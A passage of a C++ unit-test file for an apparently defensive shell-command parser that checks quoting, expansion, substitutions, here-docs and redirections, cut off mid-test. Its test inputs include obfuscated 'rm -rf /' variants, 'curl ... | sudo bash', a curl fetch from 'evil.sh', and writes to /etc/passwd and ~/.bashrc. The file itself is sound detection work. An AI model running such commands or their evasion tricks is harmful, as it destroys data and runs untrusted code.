// Stage-1 shell parser (parse_raw): quoting, expansion, operators, compound commands,
// substitutions, here-docs, redirections, constant propagation, cwd tracking, limits.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "rules/shell/shell.hpp"

namespace blastwall::shell {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

using Argv = std::vector<std::string>;

ShellEnv dev_env() {
  ShellEnv e;
  e.cwd = "/home/dev/project";
  e.home = "/home/dev";
  e.user = "dev";
  return e;
}

ShellParse parse(std::string_view line, const Limits& limits = {}) {
  return parse_raw(line, dev_env(), limits);
}

Argv argv_of(const SimpleCommand& c) {
  Argv out;
  for (const auto& w : c.argv) out.push_back(w.text);
  return out;
}

std::vector<Argv> all_argv(const ShellParse& p) {
  std::vector<Argv> out;
  for (const auto& c : p.commands) out.push_back(argv_of(c));
  return out;
}

// Parses a line that must parse cleanly and returns the argv of its only command.
Argv single(std::string_view line) {
  auto p = parse(line);
  EXPECT_TRUE(p.complete) << line << ": " << p.fail_reason;
  EXPECT_FALSE(p.fail_closed) << line;
  EXPECT_EQ(p.commands.size(), 1u) << line;
  if (p.commands.empty()) return {};
  return argv_of(p.commands[0]);
}

const SimpleCommand* find_cmd(const ShellParse& p, std::string_view name) {
  for (const auto& c : p.commands) {
    if (c.name == name) return &c;
  }
  return nullptr;
}

void expect_fail(std::string_view line, std::string_view reason_part) {
  auto p = parse(line);
  EXPECT_FALSE(p.complete) << line;
  EXPECT_TRUE(p.fail_closed) << line;
  EXPECT_THAT(p.fail_reason, HasSubstr(std::string(reason_part))) << line;
  EXPECT_EQ(p.fail_reason.find('\n'), std::string::npos) << "reason must be one line";
}

// ---- quoting -----------------------------------------------------------------------------

TEST(ShellParser, plain_words_are_split_on_blanks) {
  EXPECT_THAT(single("ls   -la\t/tmp"), ElementsAre("ls", "-la", "/tmp"));
}

TEST(ShellParser, single_quotes_are_literal) {
  EXPECT_THAT(single("echo '$HOME \\n `x`'"), ElementsAre("echo", "$HOME \\n `x`"));
}

TEST(ShellParser, double_quotes_keep_spaces_and_expand_variables) {
  EXPECT_THAT(single("echo \"a  b $HOME\""), ElementsAre("echo", "a  b /home/dev"));
}

TEST(ShellParser, backslash_in_double_quotes_escapes_only_special_characters) {
  EXPECT_THAT(single(R"(echo "\$x \` \" \\ \a")"), ElementsAre("echo", "$x ` \" \\ \\a"));
}

TEST(ShellParser, unquoted_backslash_escapes_next_character) {
  EXPECT_THAT(single(R"(echo a\ b \$HOME \\)"), ElementsAre("echo", "a b", "$HOME", "\\"));
}

TEST(ShellParser, empty_quotes_inside_command_name_are_removed) {
  EXPECT_THAT(single("r''m -rf /"), ElementsAre("rm", "-rf", "/"));
  EXPECT_THAT(single("\"r\"m -rf /"), ElementsAre("rm", "-rf", "/"));
  EXPECT_THAT(single("r\\m -rf /"), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, empty_quoted_argument_is_kept) {
  EXPECT_THAT(single("echo '' \"\""), ElementsAre("echo", "", ""));
}

TEST(ShellParser, ansi_c_hex_escapes_are_decoded) {
  EXPECT_THAT(single("$'\\x72\\x6d' -rf /"), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, ansi_c_octal_and_control_escapes_are_decoded) {
  EXPECT_THAT(single("$'\\162\\155' $'a\\tb\\n' $'\\e[0m'"),
              ElementsAre("rm", "a\tb\n", "\x1b[0m"));
}

TEST(ShellParser, ansi_c_unicode_escapes_emit_utf8) {
  EXPECT_THAT(single("echo $'\\u00e9' $'\\U0001F600' $'\\u72'"),
              ElementsAre("echo", "\xc3\xa9", "\xf0\x9f\x98\x80", "r"));
}

TEST(ShellParser, ansi_c_escaped_quote_does_not_end_string) {
  EXPECT_THAT(single("echo $'it\\'s'"), ElementsAre("echo", "it's"));
}

TEST(ShellParser, ansi_c_nul_ends_the_word_like_bash) {
  EXPECT_THAT(single("$'rm\\x00junk' -rf /"), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, locale_quoting_is_a_double_quote) {
  EXPECT_THAT(single("echo $\"hi $HOME\""), ElementsAre("echo", "hi /home/dev"));
}

TEST(ShellParser, line_continuation_is_removed) {
  EXPECT_THAT(single("r\\\nm -rf \\\n /"), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, comments_start_only_at_word_start) {
  auto p = parse("echo a#b # rm -rf /\nls");
  ASSERT_TRUE(p.complete);
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"echo", "a#b"}, Argv{"ls"}));
}

TEST(ShellParser, quoted_flag_is_set_for_any_quoted_part) {
  auto p = parse("echo 'a' b");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_TRUE(p.commands[0].argv[1].quoted);
  EXPECT_FALSE(p.commands[0].argv[2].quoted);
}

// ---- operators and lists ------------------------------------------------------------------

TEST(ShellParser, list_operators_yield_every_command_in_order) {
  auto p = parse("a; b && c || d\ne");
  ASSERT_TRUE(p.complete);
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"a"}, Argv{"b"}, Argv{"c"}, Argv{"d"}, Argv{"e"}));
}

TEST(ShellParser, pipeline_stages_share_index_and_record_stdin_source) {
  auto p = parse("curl -s http://x | sudo bash; ls");
  ASSERT_EQ(p.commands.size(), 3u);
  EXPECT_EQ(p.commands[0].pipeline, p.commands[1].pipeline);
  EXPECT_EQ(p.commands[0].pipeline_pos, 0);
  EXPECT_EQ(p.commands[1].pipeline_pos, 1);
  EXPECT_EQ(p.commands[1].stdin_from, "curl");
  EXPECT_NE(p.commands[2].pipeline, p.commands[0].pipeline);
  EXPECT_EQ(p.commands[2].stdin_from, "");
}

TEST(ShellParser, pipe_ampersand_adds_stderr_duplication) {
  auto p = parse("make |& tee log");
  ASSERT_EQ(p.commands.size(), 2u);
  ASSERT_EQ(p.commands[0].redirects.size(), 1u);
  EXPECT_EQ(p.commands[0].redirects[0].op, RedirectOp::dup_out);
  EXPECT_EQ(p.commands[0].redirects[0].fd, 2);
  EXPECT_EQ(p.commands[1].stdin_from, "make");
}

TEST(ShellParser, background_marks_whole_and_or_list) {
  auto p = parse("a && b & c");
  ASSERT_EQ(p.commands.size(), 3u);
  EXPECT_TRUE(p.commands[0].background);
  EXPECT_TRUE(p.commands[1].background);
  EXPECT_FALSE(p.commands[2].background);
}

TEST(ShellParser, subshell_and_group_commands_are_emitted) {
  auto p = parse("(a; b) && { c; d; }");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"a"}, Argv{"b"}, Argv{"c"}, Argv{"d"}));
}

TEST(ShellParser, negation_and_time_are_stripped) {
  auto p = parse("! time -p rm -rf x");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("rm", "-rf", "x"));
}

TEST(ShellParser, operators_without_spaces_are_recognized) {
  auto p = parse("a&&b||c;d|e");
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"a"}, Argv{"b"}, Argv{"c"}, Argv{"d"}, Argv{"e"}));
}

// ---- command names ---------------------------------------------------------------------------

TEST(ShellParser, name_is_basename_without_leading_backslash) {
  auto p = parse("\\rm a; /bin/rm b; \"r\"m c; ./tool d");
  ASSERT_EQ(p.commands.size(), 4u);
  EXPECT_EQ(p.commands[0].name, "rm");
  EXPECT_EQ(p.commands[1].name, "rm");
  EXPECT_EQ(p.commands[1].argv[0].text, "/bin/rm");
  EXPECT_EQ(p.commands[2].name, "rm");
  EXPECT_EQ(p.commands[3].name, "tool");
}

TEST(ShellParser, unknown_variable_as_verb_is_dynamic) {
  auto p = parse("$CMD -rf /");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_TRUE(p.commands[0].dynamic_verb);
  EXPECT_EQ(p.commands[0].name, "");
  EXPECT_EQ(p.commands[0].argv[0].text, "$CMD");
  EXPECT_TRUE(p.commands[0].argv[0].dynamic);
}

TEST(ShellParser, command_substitution_as_verb_is_dynamic) {
  auto p = parse("$(echo rm) -rf /");
  const SimpleCommand* outer = nullptr;
  for (const auto& c : p.commands) {
    if (c.depth == 0) outer = &c;
  }
  ASSERT_NE(outer, nullptr);
  EXPECT_TRUE(outer->dynamic_verb);
}

// ---- variables and constant propagation ---------------------------------------------------

TEST(ShellParser, assignment_then_variable_verb_is_propagated) {
  auto p = parse("X=rm; $X -rf ~");
  ASSERT_EQ(p.commands.size(), 2u);
  EXPECT_THAT(argv_of(p.commands[1]), ElementsAre("rm", "-rf", "/home/dev"));
  EXPECT_EQ(p.commands[1].name, "rm");
  EXPECT_FALSE(p.commands[1].dynamic_verb);
}

TEST(ShellParser, bare_assignment_is_emitted_with_empty_argv) {
  auto p = parse("TMPDIR=/");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_THAT(p.commands[0].argv, IsEmpty());
  ASSERT_EQ(p.commands[0].assignments.size(), 1u);
  EXPECT_EQ(p.commands[0].assignments[0].name, "TMPDIR");
  EXPECT_EQ(p.commands[0].assignments[0].value.text, "/");
}

TEST(ShellParser, prefix_assignment_goes_to_command_env_only) {
  auto p = parse("X=ls; X=rm echo $X; echo $X");
  ASSERT_EQ(p.commands.size(), 3u);
  EXPECT_THAT(argv_of(p.commands[1]), ElementsAre("echo", "ls"));
  EXPECT_EQ(p.commands[1].env.at("X"), "rm");
  ASSERT_EQ(p.commands[1].assignments.size(), 1u);
  EXPECT_THAT(argv_of(p.commands[2]), ElementsAre("echo", "ls"));
}

TEST(ShellParser, prefix_assignments_see_each_other) {
  auto p = parse("A=1 B=$A env");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].env.at("B"), "1");
}

TEST(ShellParser, variable_with_spaces_is_split_into_words) {
  EXPECT_THAT(parse("X='rm -rf'; $X /").commands.back().argv.size(), 3u);
  EXPECT_THAT(argv_of(parse("X='rm -rf'; $X /").commands.back()), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, quoted_variable_is_not_split) {
  EXPECT_THAT(argv_of(parse("X='a b'; echo \"$X\"").commands.back()), ElementsAre("echo", "a b"));
}

TEST(ShellParser, unquoted_empty_variable_produces_no_word) {
  EXPECT_THAT(argv_of(parse("E=; rm $E -rf x").commands.back()), ElementsAre("rm", "-rf", "x"));
}

TEST(ShellParser, variable_from_dynamic_value_is_dynamic) {
  auto p = parse("X=$(whoami); $X a");
  const auto& last = p.commands.back();
  EXPECT_TRUE(last.dynamic_verb);
}

TEST(ShellParser, env_vars_from_shell_env_are_known) {
  ShellEnv env = dev_env();
  env.vars["TARGET"] = "/etc";
  auto p = parse_raw("rm -rf $TARGET ${TARGET}/x", env, Limits{});
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("rm", "-rf", "/etc", "/etc/x"));
  EXPECT_FALSE(p.commands[0].argv[2].dynamic);
}

TEST(ShellParser, home_and_pwd_expand) {
  EXPECT_THAT(single("echo $HOME ${HOME} $PWD $USER"),
              ElementsAre("echo", "/home/dev", "/home/dev", "/home/dev/project", "dev"));
}

TEST(ShellParser, unknown_variable_keeps_text_and_is_dynamic) {
  auto p = parse("rm -rf \"$UNKNOWN_DIR\"/x");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].argv[2].text, "$UNKNOWN_DIR/x");
  EXPECT_TRUE(p.commands[0].argv[2].dynamic);
  EXPECT_FALSE(p.commands[0].dynamic_verb);
}

TEST(ShellParser, special_parameters_are_dynamic) {
  auto p = parse("echo $1 $@ $* $? $$ $#");
  ASSERT_EQ(p.commands.size(), 1u);
  for (size_t i = 1; i < p.commands[0].argv.size(); ++i)
    EXPECT_TRUE(p.commands[0].argv[i].dynamic) << i;
}

TEST(ShellParser, default_value_is_used_when_unset) {
  EXPECT_THAT(single("echo ${NOPE:-/etc} ${NOPE-x} ${HOME:-y}"),
              ElementsAre("echo", "/etc", "x", "/home/dev"));
}

TEST(ShellParser, colon_dash_uses_default_for_empty_but_dash_does_not) {
  auto p = parse("E=; echo ${E:-d} ${E-d}x");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("echo", "d", "x"));
}

TEST(ShellParser, assign_default_sets_variable) {
  auto p = parse("echo ${D:=/var}; rm -rf $D");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("rm", "-rf", "/var"));
}

TEST(ShellParser, substring_of_known_variable_is_computed) {
  EXPECT_THAT(argv_of(parse("X=abcdef; echo ${X:0:1} ${X:2} ${X: -2} ${X:1:-1}").commands.back()),
              ElementsAre("echo", "a", "cdef", "ef", "bcde"));
}

TEST(ShellParser, substring_building_a_verb_is_resolved) {
  auto p = parse("a=rmx; ${a:0:2} -rf /");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, length_of_known_variable_is_computed) {
  EXPECT_THAT(single("echo ${#HOME}"), ElementsAre("echo", "9"));
}

TEST(ShellParser, pattern_operators_are_dynamic) {
  auto p = parse("X=abc; echo ${X#a} ${X/b/c}");
  const auto& c = p.commands.back();
  EXPECT_TRUE(c.argv[1].dynamic);
  EXPECT_TRUE(c.argv[2].dynamic);
}

TEST(ShellParser, ifs_expands_to_space_and_splits) {
  EXPECT_THAT(single("rm${IFS}-rf${IFS}/"), ElementsAre("rm", "-rf", "/"));
  EXPECT_THAT(single("rm$IFS-rf$IFS/tmp"), ElementsAre("rm", "-rf", "/tmp"));
}

TEST(ShellParser, tilde_after_ifs_split_is_home) {
  EXPECT_THAT(single("rm${IFS}-rf${IFS}~"), ElementsAre("rm", "-rf", "/home/dev"));
}

TEST(ShellParser, custom_ifs_splits_known_values) {
  auto p = parse("IFS=,; x=rm,-rf,/; $x");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, export_and_declare_assign_variables) {
  auto p = parse("export A=/x B; declare -r C=rm; local D=1; $C -rf $A");
  const auto& last = p.commands.back();
  EXPECT_THAT(argv_of(last), ElementsAre("rm", "-rf", "/x"));
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("export", "A=/x", "B"));
}

TEST(ShellParser, append_assignment_concatenates) {
  auto p = parse("X=r; X+=m; $X a");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("rm", "a"));
}

TEST(ShellParser, assignment_in_conditional_branch_becomes_dynamic_after) {
  auto p = parse("X=ls; if test -f a; then X=rm; fi; $X -rf /");
  EXPECT_TRUE(p.commands.back().dynamic_verb);
}

TEST(ShellParser, assignment_in_subshell_does_not_leak) {
  auto p = parse("X=ls; (X=rm); $X");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("ls"));
}

TEST(ShellParser, read_makes_variable_dynamic) {
  auto p = parse("X=ls; read X; $X");
  EXPECT_TRUE(p.commands.back().dynamic_verb);
}

TEST(ShellParser, command_env_contains_known_script_variables) {
  auto p = parse("export KUBECONFIG=/prod.yaml; AWS_PROFILE=prod kubectl get pods");
  const auto* k = find_cmd(p, "kubectl");
  ASSERT_NE(k, nullptr);
  EXPECT_EQ(k->env.at("KUBECONFIG"), "/prod.yaml");
  EXPECT_EQ(k->env.at("AWS_PROFILE"), "prod");
}

TEST(ShellParser, array_assignment_makes_variable_dynamic) {
  auto p = parse("a=(rm ls); ${a[0]} -rf /");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_TRUE(p.commands.back().dynamic_verb);
}

// ---- tilde -----------------------------------------------------------------------------------

TEST(ShellParser, tilde_forms_expand) {
  EXPECT_THAT(
      single("ls ~ ~/x ~root ~bob/y ~+"),
      ElementsAre("ls", "/home/dev", "/home/dev/x", "/root", "/home/bob/y", "/home/dev/project"));
}

TEST(ShellParser, quoted_tilde_is_literal) {
  EXPECT_THAT(single("ls '~' \"~\" \\~ a~"), ElementsAre("ls", "~", "~", "~", "a~"));
}

TEST(ShellParser, tilde_in_assignment_value_expands) {
  auto p = parse("D=~/src:~/bin; echo $D");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("echo", "/home/dev/src:/home/dev/bin"));
}

// ---- brace expansion and globs ------------------------------------------------------------

TEST(ShellParser, brace_list_expands) {
  EXPECT_THAT(single("rm -rf /{etc,usr}"), ElementsAre("rm", "-rf", "/etc", "/usr"));
}

TEST(ShellParser, brace_sequences_expand) {
  EXPECT_THAT(single("echo {1..3} {a..c} {01..03} {5..1..2}"),
              ElementsAre("echo", "1", "2", "3", "a", "b", "c", "01", "02", "03", "5", "3", "1"));
}

TEST(ShellParser, nested_braces_expand_in_order) {
  EXPECT_THAT(single("echo a{b,c{d,e}}f"), ElementsAre("echo", "abf", "acdf", "acef"));
}

TEST(ShellParser, braces_forming_the_verb_expand) {
  EXPECT_THAT(single("{rm,-rf,/}"), ElementsAre("rm", "-rf", "/"));
}

TEST(ShellParser, braces_without_comma_or_range_are_literal) {
  EXPECT_THAT(single("echo {} {a} '{a,b}' x{"), ElementsAre("echo", "{}", "{a}", "{a,b}", "x{"));
}

TEST(ShellParser, brace_expansion_over_word_limit_fails_closed) {
  Limits l;
  l.max_words = 100;
  auto p = parse("echo {1..1000}", l);
  EXPECT_TRUE(p.fail_closed);
  EXPECT_FALSE(p.complete);
}

TEST(ShellParser, globs_are_flagged_not_expanded) {
  auto p = parse("rm *.o 'x*' a\\? [ab]c plain");
  ASSERT_EQ(p.commands.size(), 1u);
  const auto& a = p.commands[0].argv;
  EXPECT_TRUE(a[1].glob);
  EXPECT_EQ(a[1].text, "*.o");
  EXPECT_FALSE(a[2].glob);
  EXPECT_FALSE(a[3].glob);
  EXPECT_TRUE(a[4].glob);
  EXPECT_FALSE(a[5].glob);
}

// ---- substitutions ---------------------------------------------------------------------------

TEST(ShellParser, command_substitution_inner_commands_are_emitted_first) {
  auto p = parse("echo $(rm -rf /)");
  ASSERT_EQ(p.commands.size(), 2u);
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("rm", "-rf", "/"));
  EXPECT_EQ(p.commands[0].depth, 1);
  EXPECT_EQ(p.commands[1].depth, 0);
  EXPECT_TRUE(p.commands[1].argv[1].dynamic);
  EXPECT_EQ(p.commands[1].argv[1].text, "$(rm -rf /)");
}

TEST(ShellParser, nested_command_substitutions_increase_depth) {
  auto p = parse("a $(b $(c $(d)))");
  ASSERT_EQ(p.commands.size(), 4u);
  EXPECT_EQ(p.commands[0].name, "d");
  EXPECT_EQ(p.commands[0].depth, 3);
  EXPECT_EQ(p.commands[1].name, "c");
  EXPECT_EQ(p.commands[1].depth, 2);
  EXPECT_EQ(p.commands[3].name, "a");
}

TEST(ShellParser, backticks_are_parsed_recursively) {
  auto p = parse("echo `rm -rf /tmp/x`");
  ASSERT_EQ(p.commands.size(), 2u);
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("rm", "-rf", "/tmp/x"));
  EXPECT_EQ(p.commands[0].depth, 1);
}

TEST(ShellParser, nested_escaped_backticks_are_parsed) {
  auto p = parse("echo `echo \\`rm x\\``");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_NE(find_cmd(p, "rm"), nullptr);
  EXPECT_EQ(find_cmd(p, "rm")->depth, 2);
}

TEST(ShellParser, substitution_inside_double_quotes_is_parsed) {
  auto p = parse("echo \"x $(rm -rf ~) y\"");
  ASSERT_NE(find_cmd(p, "rm"), nullptr);
  EXPECT_THAT(argv_of(*find_cmd(p, "rm")), ElementsAre("rm", "-rf", "/home/dev"));
}

TEST(ShellParser, process_substitution_inner_commands_are_emitted) {
  auto p = parse("diff <(curl -s x) >(sh)");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_NE(find_cmd(p, "curl"), nullptr);
  ASSERT_NE(find_cmd(p, "sh"), nullptr);
  EXPECT_EQ(find_cmd(p, "sh")->depth, 1);
  const auto* d = find_cmd(p, "diff");
  ASSERT_NE(d, nullptr);
  EXPECT_TRUE(d->argv[1].dynamic);
}

TEST(ShellParser, literal_arithmetic_is_evaluated) {
  EXPECT_THAT(single("echo $((1+2*3)) $(( (7-1)/2 )) $((10%4))"),
              ElementsAre("echo", "7", "3", "2"));
}

TEST(ShellParser, arithmetic_with_variables_is_dynamic) {
  auto p = parse("echo $((x+1))");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_TRUE(p.commands[0].argv[1].dynamic);
}

TEST(ShellParser, command_substitution_inside_arithmetic_is_emitted) {
  auto p = parse("echo $(( $(rm -rf /) + 1 ))");
  ASSERT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, dollar_paren_paren_subshell_fallback) {
  auto p = parse("echo $( (rm a; ls) )");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
  EXPECT_NE(find_cmd(p, "ls"), nullptr);
}

TEST(ShellParser, substitution_in_assignment_value_is_emitted) {
  auto p = parse("X=$(curl -s evil.sh)");
  ASSERT_NE(find_cmd(p, "curl"), nullptr);
}

TEST(ShellParser, substitution_in_default_operand_is_emitted) {
  auto p = parse("echo ${X:-$(rm -rf /)}");
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

// ---- here-docs and here-strings ---------------------------------------------------------------

TEST(ShellParser, heredoc_body_is_recorded_and_expanded) {
  auto p = parse("bash <<EOF\nrm -rf $HOME\nEOF\n");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_EQ(p.commands.size(), 1u);
  ASSERT_EQ(p.commands[0].redirects.size(), 1u);
  const auto& r = p.commands[0].redirects[0];
  EXPECT_EQ(r.op, RedirectOp::heredoc);
  EXPECT_EQ(r.body, "rm -rf /home/dev\n");
  EXPECT_FALSE(r.body_literal);
  EXPECT_EQ(r.target.text, "EOF");
}

TEST(ShellParser, quoted_heredoc_delimiter_keeps_body_literal) {
  auto p = parse("cat <<'EOF'\n$HOME $(id)\nEOF");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].redirects[0].body, "$HOME $(id)\n");
  EXPECT_TRUE(p.commands[0].redirects[0].body_literal);
}

TEST(ShellParser, heredoc_dash_strips_leading_tabs) {
  auto p = parse("cat <<-END\n\t\tline\n\tEND\n");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_EQ(p.commands[0].redirects[0].body, "line\n");
}

TEST(ShellParser, several_heredocs_on_one_line) {
  auto p = parse("cat <<A; sh <<\"B\"\none\nA\ntwo $x\nB\necho done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_EQ(p.commands.size(), 3u);
  EXPECT_EQ(p.commands[0].redirects[0].body, "one\n");
  EXPECT_EQ(p.commands[1].redirects[0].body, "two $x\n");
  EXPECT_THAT(argv_of(p.commands[2]), ElementsAre("echo", "done"));
}

TEST(ShellParser, heredoc_body_substitutions_are_emitted) {
  auto p = parse("cat <<EOF\n$(rm -rf /)\nEOF");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, heredoc_feeding_a_compound_command_is_attached) {
  auto p = parse("while read f; do rm \"$f\"; done <<EOF\na\nEOF");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  const auto* rm = find_cmd(p, "rm");
  ASSERT_NE(rm, nullptr);
  ASSERT_FALSE(rm->redirects.empty());
  EXPECT_EQ(rm->redirects.back().body, "a\n");
}

TEST(ShellParser, unterminated_heredoc_fails_closed) {
  expect_fail("cat <<EOF\nhello\n", "here-document");
}

TEST(ShellParser, herestring_body_is_recorded) {
  auto p = parse("bash <<< \"rm -rf $HOME\"");
  ASSERT_EQ(p.commands.size(), 1u);
  ASSERT_EQ(p.commands[0].redirects.size(), 1u);
  EXPECT_EQ(p.commands[0].redirects[0].op, RedirectOp::herestring);
  EXPECT_EQ(p.commands[0].redirects[0].body, "rm -rf /home/dev");
}

// ---- redirections --------------------------------------------------------------------------

TEST(ShellParser, redirection_operators_are_classified) {
  auto p = parse("cmd >a >>b >|c <d <>e 2>f 2>&1 <&3 &>g &>>h >&i");
  ASSERT_EQ(p.commands.size(), 1u);
  const auto& r = p.commands[0].redirects;
  ASSERT_EQ(r.size(), 11u);
  EXPECT_EQ(r[0].op, RedirectOp::write);
  EXPECT_EQ(r[0].target.text, "a");
  EXPECT_EQ(r[1].op, RedirectOp::append);
  EXPECT_EQ(r[2].op, RedirectOp::clobber);
  EXPECT_EQ(r[3].op, RedirectOp::read);
  EXPECT_EQ(r[4].op, RedirectOp::read_write);
  EXPECT_EQ(r[5].op, RedirectOp::write);
  EXPECT_EQ(r[5].fd, 2);
  EXPECT_EQ(r[6].op, RedirectOp::dup_out);
  EXPECT_EQ(r[6].target.text, "1");
  EXPECT_EQ(r[7].op, RedirectOp::dup_in);
  EXPECT_EQ(r[8].op, RedirectOp::dup_out);
  EXPECT_EQ(r[8].target.text, "g");
  EXPECT_EQ(r[9].op, RedirectOp::append);
  EXPECT_EQ(r[10].op, RedirectOp::dup_out);
  EXPECT_EQ(r[10].target.text, "i");
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("cmd"));
}

TEST(ShellParser, redirection_target_is_expanded) {
  auto p = parse("echo x > ~/.bashrc");
  ASSERT_EQ(p.commands[0].redirects.size(), 1u);
  EXPECT_EQ(p.commands[0].redirects[0].target.text, "/home/dev/.bashrc");
}

TEST(ShellParser, redirection_only_command_is_emitted) {
  auto p = parse("> /etc/passwd");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_THAT(p.commands[0].argv, IsEmpty());
  ASSERT_EQ(p.commands[0].redirects.size(), 1u);
  EXPECT_EQ(p.commands[0].redirects[0].target.text, "/etc/passwd");
}

TEST(ShellParser, redirection_before_command_name) {
  auto p = parse("2>/dev/null rm -rf x");
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].name, "rm");
}

TEST(ShellParser, redirection_after_group_applies_to_inner_commands) {
  auto p = parse("{ echo a; echo b; } > /etc/hosts");
  ASSERT_EQ(p.commands.size(), 2u);
  for (const auto& c : p.commands) {
    ASSERT_EQ(c.redirects.size(), 1u);
    EXPECT_EQ(c.redirects[0].target.text, "/etc/hosts");
  }
}

TEST(ShellParser, redirection_to_process_substitution_emits_inner_command) {
  auto p = parse("make > >(tee build.log) 2> >(sh)");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_NE(find_cmd(p, "tee"), nullptr);
  EXPECT_NE(find_cmd(p, "sh"), nullptr);
  const auto* m = find_cmd(p, "make");
  ASSERT_NE(m, nullptr);
  ASSERT_EQ(m->redirects.size(), 2u);
  EXPECT_TRUE(m->redirects[0].target.dynamic);
}

TEST(ShellParser, heredoc_piped_into_shell_records_stdin_source) {
  auto p = parse("cat <<EOF | sh\nrm -rf /\nEOF");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_EQ(p.commands.size(), 2u);
  EXPECT_EQ(p.commands[0].redirects[0].body, "rm -rf /\n");
  EXPECT_EQ(p.commands[1].stdin_from, "cat");
}

TEST(ShellParser, case_inside_command_substitution_parses) {
  auto p = parse("echo $(case x in a) rm y;; esac)");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, heredoc_inside_command_substitution_parses) {
  auto p = parse("x=$(cat <<'E'\nrm -rf /\nE\n)");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  const auto* c = find_cmd(p, "cat");
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(c->redirects[0].body, "rm -rf /\n");
}

TEST(ShellParser, quotes_nested_in_substitution_inside_quotes) {
  auto p = parse("echo \"$(echo \"a b\")\"");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(argv_of(p.commands[0]), ElementsAre("echo", "a b"));
}

TEST(ShellParser, default_operand_spaces_split_unless_quoted) {
  EXPECT_THAT(single("echo ${NOPE:-a b} \"${NOPE:-a b}\" ${NOPE:-\"a b\"}"),
              ElementsAre("echo", "a", "b", "a b", "a b"));
}

TEST(ShellParser, escaped_dollar_paren_is_a_syntax_error) {
  expect_fail("echo \\$(rm)", "unexpected token");
}

TEST(ShellParser, missing_redirection_target_fails_closed) { expect_fail("echo >", "redirection"); }

// ---- compound commands ---------------------------------------------------------------------

TEST(ShellParser, if_elif_else_commands_are_all_emitted) {
  auto p = parse("if a; then b; elif c; then d; else e; fi");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"a"}, Argv{"b"}, Argv{"c"}, Argv{"d"}, Argv{"e"}));
}

TEST(ShellParser, multiline_if_parses) {
  auto p = parse("if [ -d x ]\nthen\n  rm -rf x\nfi\n");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"[", "-d", "x", "]"}, Argv{"rm", "-rf", "x"}));
}

TEST(ShellParser, for_loop_over_glob_has_dynamic_loop_var) {
  auto p = parse("for f in *.txt; do rm \"$f\"; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  const auto* rm = find_cmd(p, "rm");
  ASSERT_NE(rm, nullptr);
  EXPECT_TRUE(rm->argv[1].dynamic);
}

TEST(ShellParser, for_loop_over_literal_items_is_unrolled) {
  auto p = parse("for d in /etc /usr; do rm -rf $d; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"rm", "-rf", "/etc"}, Argv{"rm", "-rf", "/usr"}));
}

TEST(ShellParser, for_loop_without_in_list_has_dynamic_loop_var) {
  auto p = parse("for a; do rm $a; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
